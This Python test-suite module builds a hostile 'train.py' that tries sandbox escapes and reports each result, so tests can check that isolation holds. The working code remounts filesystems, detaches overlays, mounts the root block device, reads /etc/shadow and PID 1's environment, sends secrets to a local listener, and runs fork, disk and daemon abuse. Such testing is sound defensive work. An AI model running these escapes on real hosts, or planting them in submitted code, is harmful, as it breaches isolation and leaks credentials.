"""The hostile code the attack suite plants in copies of the demo repo.

`payload(...)` is the text of a Python script (stdlib only) that a submission could ship as its `train.py`,
or call from `prepare.sh`: it tries each attack it is given and prints one `ATTACK <name> <result>` line per
try (`ok`, or the errno name), so a test reads from the step's own log what the step could do, and checks on
the host what it changed. Every write it tries targets a path the test made for it (a marker in a folder of
its own, or the repo copy); it never remounts a superblock (only per-mount flags, `MS_REMOUNT | MS_BIND`), so
even where the sandbox does not hold, it changes nothing but those markers.
"""

from __future__ import annotations

import json

# The attacks a payload knows, in the order it tries them when given several.
ACTIONS = (
    "write",  # write each target as it is
    "remount",  # remount every mount read-write (per-mount flags), then write each target
    "umount",  # detach the mounts covering each target (the overlay over the repo), then write it
    "blockdev",  # mount the block device of / again and write each target through it
    "unshare",  # new user, mount and network namespaces
    "env",  # look for the secret sentinel in its environment and in PID 1's
    "files",  # read each file in `reads`
    "net",  # connect to the host's loopback listener and send the sentinel
    "hostfiles",  # read /etc/shadow, list /root
    "hosttmp",  # look for a file the test put in the host's /tmp
    "kernel",  # open core_pattern and the parent cgroup's cgroup.procs for writing (never written)
    "daemon",  # leave a detached process behind (setsid, its own session)
    "fork",  # start `forks` sleeping children
    "disk",  # write `disk_mb` MiB into the repo tree and into /tmp
    "longline",  # print `line_mb` MiB without a newline
    "link",  # plant links at `links` (path -> target): where tipc itself writes next (a step's log...)
)

_BODY = r"""
import ctypes, errno, json, os, socket, subprocess, sys, time

CFG = json.loads(__CFG__)
SENTINEL = CFG["sentinel"]
libc = ctypes.CDLL(None, use_errno=True)
libc.mount.argtypes = (ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p)
libc.umount2.argtypes = (ctypes.c_char_p, ctypes.c_int)
libc.unshare.argtypes = (ctypes.c_int,)
MS_REMOUNT, MS_BIND, MNT_DETACH = 0x20, 0x1000, 0x2


def report(name, result):
    print(f"ATTACK {name} {result}", flush=True)


def err(code):
    return errno.errorcode.get(code, str(code))


def call(result):
    return "ok" if result == 0 else err(ctypes.get_errno())


def mounts():
    out = []
    with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as fh:
        for line in fh:
            fields = line.split()
            sep = fields.index("-")
            out.append({"point": fields[4].encode().decode("unicode_escape"), "root": fields[3],
                        "fstype": fields[sep + 1], "source": fields[sep + 2]})
    return out


def write_targets(how, remount_if_read_only=False):
    for label, path in CFG["targets"].items():
        for attempt in (1, 2):
            try:
                with open(path, "w") as fh:
                    fh.write(f"written by a hostile step ({how})\n")
                report(f"{how}:{label}", "ok")
            except OSError as exc:
                if exc.errno == errno.EROFS and remount_if_read_only and attempt == 1:
                    point = covering(os.path.dirname(path)) or "/"
                    libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND, None)
                    continue
                report(f"{how}:{label}", err(exc.errno))
            break


def covering(path):
    best = None
    for m in mounts():
        p = m["point"].rstrip("/") or "/"
        if path == p or path.startswith(p.rstrip("/") + "/"):
            if best is None or len(p) >= len(best):
                best = p
    return best


def do_write():
    write_targets("write")


def do_remount():
    done = 0
    for m in mounts():
        if libc.mount(None, m["point"].encode(), None, MS_REMOUNT | MS_BIND, None) == 0:
            done += 1
    report("remount", "ok" if done else err(ctypes.get_errno()))
    write_targets("remount")


def do_umount():
    results = set()
    for label, path in CFG["targets"].items():
        for _ in range(8):  # the overlay, then what tipc bound over it, ...
            point = covering(os.path.dirname(path))
            if point in (None, "/"):
                break
            if libc.umount2(point.encode(), MNT_DETACH) != 0:
                results.add(err(ctypes.get_errno()))
                break
            results.add("ok")
    report("umount", "ok" if "ok" in results else (sorted(results) or ["nothing"])[0])
    write_targets("umount", remount_if_read_only=True)


def do_blockdev():
    root = next((m for m in mounts() if m["point"] == "/"), None)
    if root is None or not root["source"].startswith("/dev/"):
        report("blockdev", "no-device")
        return
    where = os.path.abspath(".tipc-attack-mnt")
    os.makedirs(where, exist_ok=True)
    if libc.mount(root["source"].encode(), where.encode(), root["fstype"].encode(), 0, None) != 0:
        report("blockdev", err(ctypes.get_errno()))
        return
    report("blockdev", "ok")
    base = root["root"] if root["root"] != "/" else ""
    for label, path in CFG["targets"].items():
        try:
            inside = path[len(base):] if base and path.startswith(base) else path
            with open(where + inside, "w") as fh:
                fh.write("written through the block device\n")
            report(f"blockdev:{label}", "ok")
        except OSError as exc:
            report(f"blockdev:{label}", err(exc.errno))


def do_unshare():
    for name, flag in (("user", 0x10000000), ("mount", 0x00020000), ("net", 0x40000000)):
        pid = os.fork()
        if pid == 0:
            os._exit(0 if libc.unshare(flag) == 0 else min(ctypes.get_errno(), 255) or 1)
        _, status = os.waitpid(pid, 0)
        code = os.waitstatus_to_exitcode(status)
        report(f"unshare:{name}", "ok" if code == 0 else err(code))


def do_env():
    found = sorted(k for k, v in os.environ.items() if SENTINEL in v)
    report("env:own", ",".join(found) or "none")
    try:
        with open("/proc/1/environ", "rb") as fh:
            pairs = fh.read().split(b"\0")
        pid1 = sorted(x.split(b"=", 1)[0].decode() for x in pairs if SENTINEL.encode() in x)
        report("env:pid1", ",".join(pid1) or "none")
    except OSError as exc:
        report("env:pid1", err(exc.errno))


def do_files():
    for label, path in CFG["reads"].items():
        try:
            with open(os.path.expanduser(path), "rb") as fh:
                data = fh.read(4096)
            report(f"read:{label}", "secret" if SENTINEL.encode() in data else "ok")
        except OSError as exc:
            report(f"read:{label}", err(exc.errno))


def do_net():
    try:
        with socket.create_connection(("127.0.0.1", CFG["port"]), timeout=3) as sock:
            sock.sendall(("leak " + SENTINEL + " " + json.dumps(dict(os.environ))).encode())
        report("net", "ok")
    except OSError as exc:
        report("net", err(exc.errno) if exc.errno else type(exc).__name__)


def do_hostfiles():
    try:
        with open("/etc/shadow", "rb") as fh:
            fh.read(1)
        report("read:/etc/shadow", "ok")
    except OSError as exc:
        report("read:/etc/shadow", err(exc.errno))
    try:
        report("list:/root", "ok" if os.listdir("/root") is not None else "ok")
    except OSError as exc:
        report("list:/root", err(exc.errno))


def do_hosttmp():
    report("hosttmp", "visible" if os.path.exists(CFG["host_tmp_file"]) else "hidden")


def do_kernel():
    knobs = (("core_pattern", "/proc/sys/kernel/core_pattern"), ("cgroup", CFG.get("cgroup_procs")))
    for label, path in knobs:
        if not path:
            report(f"open-w:{label}", "none")
            continue
        try:
            fd = os.open(path, os.O_WRONLY)  # opened, never written
            os.close(fd)
            report(f"open-w:{label}", "ok")
        except OSError as exc:
            report(f"open-w:{label}", err(exc.errno))


def do_daemon():
    subprocess.Popen(["sleep", CFG["daemon_seconds"]], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     env=dict(os.environ, TIPC_ATTACK_DAEMON=SENTINEL))
    report("daemon", "started")


def do_fork():
    kids, refused = [], ""
    for _ in range(CFG["forks"]):
        try:
            kids.append(subprocess.Popen(["sleep", "30"]))
        except OSError as exc:
            refused = err(exc.errno)
            break
    report("fork", f"{len(kids)} {refused or 'all'}")
    for kid in kids:
        kid.kill()
        kid.wait()
    if refused:
        sys.exit(1)


def do_disk():
    block = b"\0" * (1 << 20)
    places = (("repo", os.path.abspath("tipc_attack_big.bin")), ("tmp", "/tmp/tipc_attack_big.bin"))
    for label, path in places:
        written = 0
        try:
            with open(path, "wb") as fh:
                for _ in range(CFG["disk_mb"]):
                    fh.write(block)
                    written += 1
                fh.flush()
                os.fsync(fh.fileno())
            report(f"disk:{label}", f"{written}MiB")
        except OSError as exc:
            report(f"disk:{label}", f"{written}MiB {err(exc.errno)}")


def do_longline():
    report("longline", "start")  # before the line: whatever tipc keeps of what follows, the step ran
    chunk = "x" * (1 << 20)
    for _ in range(CFG["line_mb"]):
        sys.stdout.write(chunk)
    sys.stdout.flush()
    print("", flush=True)
    report("longline:done", f"{CFG['line_mb']}MiB")


def do_link():
    for path, target in CFG["links"].items():
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            if os.path.lexists(path):
                os.unlink(path)
            os.symlink(target, path)
            report(f"link:{os.path.basename(path)}", "ok")
        except OSError as exc:
            report(f"link:{os.path.basename(path)}", err(exc.errno))


for action in CFG["actions"]:
    try:
        globals()["do_" + action]()
    except SystemExit:
        raise
    except Exception as exc:  # an attack that cannot even be tried is reported, the others still run
        report(action, "error:" + type(exc).__name__)
"""


def payload(
    actions: tuple[str, ...],
    *,
    sentinel: str,
    targets: dict[str, str] | None = None,
    reads: dict[str, str] | None = None,
    port: int = 0,
    host_tmp_file: str = "",
    cgroup_procs: str = "",
    daemon_seconds: str = "300",
    forks: int = 0,
    disk_mb: int = 0,
    line_mb: int = 0,
    links: dict[str, str] | None = None,
) -> str:
    """The text of a hostile script that tries `actions` (names from ACTIONS) and prints its findings."""
    unknown = set(actions) - set(ACTIONS)
    assert not unknown, unknown
    cfg = {
        "actions": list(actions),
        "sentinel": sentinel,
        "targets": targets or {},
        "reads": reads or {},
        "port": port,
        "host_tmp_file": host_tmp_file,
        "cgroup_procs": cgroup_procs,
        "daemon_seconds": daemon_seconds,
        "forks": forks,
        "disk_mb": disk_mb,
        "line_mb": line_mb,
        "links": links or {},
    }
    return '"""A hostile training script (tipc attack suite)."""\n' + _BODY.replace(
        "__CFG__", repr(json.dumps(cfg))
    )
